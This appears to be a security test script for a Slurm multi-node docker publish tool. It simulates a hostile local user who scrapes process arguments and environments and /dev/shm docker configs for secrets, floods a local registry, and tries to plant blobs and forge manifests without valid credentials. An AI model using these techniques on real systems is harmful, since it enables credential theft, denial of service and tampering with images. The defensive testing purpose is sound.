"""Another local user of rank 0's node during a publish, knowing only what `ps` shows (issue 42, items 1-3).

Run as that user (`runuser`), with the system's Python (standard library only), in rank 0's node namespaces:
`python3 hostile_push_client.py SECONDS`. It watches every process's argv for a push target's reference
(127.0.0.1:PORT/slurm-multi-publish-NONCE), then, until the target stops answering: reads what the CLI's neighbours
give away (each docker CLI's environment, the private configs on /dev/shm), holds a flood of idle connections, and
asks the target everything the old target answered to anyone - a ping, a probe of which blobs are held, an upload of
a planted blob, a PATCH to an upload, a forged manifest - with no credential and with a guessed one. Prints a JSON
report of what it saw and every answer it got.
"""

import base64
import glob
import hashlib
import http.client
import json
import re
import socket
import sys
import time

REFERENCE = re.compile(rb"127\.0\.0\.1:(\d+)/(slurm-multi-publish-[0-9a-f]+)")
IMAGE_ID = re.compile(rb"sha256:[0-9a-f]{64}")
FLOOD = 100
GUESSED = {"Authorization": "Basic " + base64.b64encode(b"slurm-multi-publish:guess").decode()}


def watch_argv(deadline):
    """(port, repository, the argv that named them, an image ID some argv named) once a publish shows them."""
    while time.monotonic() < deadline:
        for path in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                with open(path, "rb") as handle:
                    argv = handle.read()
            except OSError:
                continue
            found = REFERENCE.search(argv)
            if found:
                image = IMAGE_ID.search(argv)
                shown = argv.replace(b"\0", b" ").decode(errors="replace")
                return int(found.group(1)), found.group(2).decode(), shown, image and image.group(0).decode()
        time.sleep(0.002)
    return None


def neighbours():
    """What the publish's neighbouring files give away: each docker CLI's environment, the private configs."""
    learned = {}
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as handle:
                if b"slurm-multi-publish-" not in handle.read():
                    continue
            with open(path.replace("cmdline", "environ"), "rb") as handle:
                learned[path] = handle.read().decode(errors="replace")
        except OSError as err:
            learned[path] = type(err).__name__
    for directory in glob.glob("/dev/shm/slurm-multi-push-*"):
        try:
            with open(directory + "/config.json") as handle:
                learned[directory] = handle.read()
        except OSError as err:
            learned[directory] = type(err).__name__
    return learned


def ask(port, method, path, body=b"", headers=None):
    """The status the target answered, or the name of the error the connection met."""
    try:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
        connection.request(method, path, body=body, headers=dict(headers or {}, **{"Content-Length": str(len(body))}))
        response = connection.getresponse()
        response.read()
        location = response.getheader("Location")
        connection.close()
        return response.status, location
    except (OSError, http.client.HTTPException) as err:
        return type(err).__name__, None


def attack(port, repository, image_id, deadline, answers, learned, once=False):
    """Every request, again and again until the target is gone (or `once`), counted into `answers` ({what: {answer:
    count}}), what the neighbours give away into `learned`."""
    base = f"/v2/{repository}"
    planted = b"a layer of the hostile user's"
    digest = "sha256:" + hashlib.sha256(planted).hexdigest()
    forged = json.dumps({"schemaVersion": 2, "config": {"digest": image_id}, "layers": [{"digest": digest}]}).encode()

    def record(what, answer):
        counts = answers.setdefault(what, {})
        counts[str(answer)] = counts.get(str(answer), 0) + 1

    while time.monotonic() < deadline:
        learned.update(neighbours())
        for credential in ({}, GUESSED):
            tries = [
                ("ping", "GET", "/v2/", b""),
                ("probe", "HEAD", f"{base}/blobs/sha256:{'a' * 64}", b""),
                ("probe config", "HEAD", f"{base}/blobs/{image_id}", b""),
                ("patch", "PATCH", f"{base}/blobs/uploads/{'0' * 32}", planted),
                ("manifest", "PUT", f"{base}/manifests/latest", forged),
            ]
            for what, method, path, body in tries:
                record(what, ask(port, method, path, body, credential)[0])
            status, location = ask(port, "POST", f"{base}/blobs/uploads/", b"", credential)
            record("upload", status)
            if location:  # the old target's open door: plant a correctly hashed blob
                record("plant", ask(port, "PUT", f"{location}?digest={digest}", planted)[0])
        if once or "ConnectionRefusedError" in answers["ping"]:
            return


def main():
    deadline = time.monotonic() + float(sys.argv[1])
    seen = watch_argv(deadline)
    report = {"seen": None}
    if seen:
        port, repository, argv, image_id = seen
        report = {"seen": argv, "flood_refused": 0, "answers": {}, "neighbours": {}}
        image_id = image_id or "sha256:" + "0" * 64
        attack(port, repository, image_id, deadline, report["answers"], report["neighbours"], once=True)
        flood = []
        for _ in range(FLOOD):
            try:
                flood.append(socket.create_connection(("127.0.0.1", port), timeout=2))
            except OSError:
                report["flood_refused"] += 1
        attack(port, repository, image_id, deadline, report["answers"], report["neighbours"])
        for connection in flood:
            connection.close()
    print(json.dumps(report))


if __name__ == "__main__":
    main()
